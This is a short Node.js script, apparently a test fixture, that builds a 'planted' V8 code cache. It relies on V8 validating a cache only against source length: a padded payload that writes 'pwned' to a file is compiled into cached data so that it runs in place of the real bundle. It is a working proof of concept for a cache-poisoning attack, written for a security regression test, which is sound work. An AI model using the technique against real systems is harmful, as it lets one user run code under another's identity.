// Makes the code cache another user could plant (test/bin.test.ts): V8 checks a cache against the source's
// length only, so a cache compiled from another source of the same length runs that source's code in place of the
// bundle's. Here that code writes PWNED_FILE. Usage: node planted-cache.cjs BUNDLE OUT HEADER
const vm = require('node:vm');
const fs = require('node:fs');
const Module = require('node:module');
const [bundle, out, header] = process.argv.slice(2);
const source = fs.readFileSync(bundle, 'utf8');
const body = "require('fs').writeFileSync(process.env.PWNED_FILE, 'pwned');/*";
const evil = `${body}${' '.repeat(source.length - body.length - 2)}*/`;
const script = new vm.Script(Module.wrap(evil), { filename: bundle });
const wrapper = script.runInThisContext();
process.env.PWNED_FILE = '/dev/null';
wrapper.call({}, {}, require, { exports: {} }, bundle, '.');
fs.writeFileSync(out, Buffer.concat([Buffer.from(header), script.createCachedData()]));
